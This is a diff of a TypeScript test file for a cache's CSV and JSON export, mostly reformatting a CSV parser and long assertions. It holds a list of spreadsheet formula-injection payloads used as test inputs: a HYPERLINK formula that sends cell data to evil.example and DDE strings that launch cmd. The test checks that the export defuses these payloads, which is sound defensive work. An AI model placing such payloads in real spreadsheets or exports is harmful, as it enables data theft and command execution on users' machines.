@@ -18,14 +18,32 @@ function parseCsv(text: string): string[][] {
   let quoted = false
   while (i < text.length) {
     const c = text[i] as string
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 2)
-      else if (c === '"') (quoted = false), i++
-      else (field += c), i++
-    } else if (c === '"') (quoted = true), i++
-    else if (c === ',') record.push(field), (field = ''), i++
-    else if (c === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), (i += 2)
-    else (field += c), i++
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      field += '"'
+      i += 2
+    } else if (quoted && c === '"') {
+      quoted = false
+      i++
+    } else if (quoted) {
+      field += c
+      i++
+    } else if (c === '"') {
+      quoted = true
+      i++
+    } else if (c === ',') {
+      record.push(field)
+      field = ''
+      i++
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      record.push(field)
+      records.push(record)
+      record = []
+      field = ''
+      i += 2
+    } else {
+      field += c
+      i++
+    }
   }
   if (field !== '' || record.length > 0) throw new Error('CSV does not end with CRLF')
   return records
@@ -33,9 +51,9 @@ function parseCsv(text: string): string[][] {
 
 const ATTACKS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"點我")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '\n=1+1',
@@ -56,7 +74,14 @@ beforeEach(() => {
   rows = generateDelegations({ count: 120, seed: 21 }).map((d, i) => {
     const attack = ATTACKS[i % ATTACKS.length] as string
     return i < ATTACKS.length * 3
-      ? { ...d, goodsDescription: attack, carrier: attack, houseBillNo: i % 2 === 0 ? `=${d.houseBillNo}` : d.houseBillNo, status: 'MISMATCH', reason: attack }
+      ? {
+          ...d,
+          goodsDescription: attack,
+          carrier: attack,
+          houseBillNo: i % 2 === 0 ? `=${d.houseBillNo}` : d.houseBillNo,
+          status: 'MISMATCH',
+          reason: attack
+        }
       : d
   })
   cache.upsert(rows)
@@ -105,7 +130,9 @@ describe('cache export', () => {
       expect(Number(r[7])).toBe(d.declaredValue)
       expect(r[0]).toBe(d.declarationDate.replaceAll('-', '/'))
       expect(r[13]).toMatch(/^\d{4}\/\d{2}\/\d{2} \d{2}:\d{2}$/)
-      expect(Date.parse(`${r[13]?.replaceAll('/', '-').replace(' ', 'T')}:00+08:00`)).toBe(Math.floor(Date.parse(d.updatedAt) / 60_000) * 60_000)
+      expect(Date.parse(`${r[13]?.replaceAll('/', '-').replace(' ', 'T')}:00+08:00`)).toBe(
+        Math.floor(Date.parse(d.updatedAt) / 60_000) * 60_000
+      )
     }
     // Every quoted field is really quoted in the raw text (Excel-safe quoting), including the multi-line one.
     expect(bytes.toString('utf8')).toContain('"normal, ""quoted"" text\r\nsecond line"')
@@ -116,14 +143,19 @@ describe('cache export', () => {
     const file = join(dir, 'export.json')
     const q = { direction: 'IMPORT' as const, sort: 'declaredValue:desc' }
     const n = cache.exportJson(q, file)
-    const parsed = JSON.parse(readFileSync(file, 'utf8')) as { exportedAt: string; lastSyncedAt: string | null; query: unknown; items: Delegation[] }
+    const parsed = JSON.parse(readFileSync(file, 'utf8')) as {
+      exportedAt: string
+      lastSyncedAt: string | null
+      query: unknown
+      items: Delegation[]
+    }
     const all = cache.query({ ...q, pageSize: 500 })
     expect(n).toBe(all.total)
     // Instants in Taipei's offset: the same instants, the clock time people in Taiwan read.
     const instant = (v: string | null): number | null => (v === null ? null : Date.parse(v))
-    expect(parsed.items.map((d) => ({ ...d, confirmedAt: instant(d.confirmedAt), updatedAt: instant(d.updatedAt) }))).toEqual(
-      all.items.map((d) => ({ ...d, confirmedAt: instant(d.confirmedAt), updatedAt: instant(d.updatedAt) }))
-    )
+    expect(
+      parsed.items.map((d) => ({ ...d, confirmedAt: instant(d.confirmedAt), updatedAt: instant(d.updatedAt) }))
+    ).toEqual(all.items.map((d) => ({ ...d, confirmedAt: instant(d.confirmedAt), updatedAt: instant(d.updatedAt) })))
     for (const d of parsed.items) expect(d.updatedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+08:00$/)
     expect(parsed.exportedAt).toBe('2025-07-01T08:00:00.000+08:00')
     expect(parsed.query).toEqual({ direction: 'IMPORT', sort: 'declaredValue:desc' })
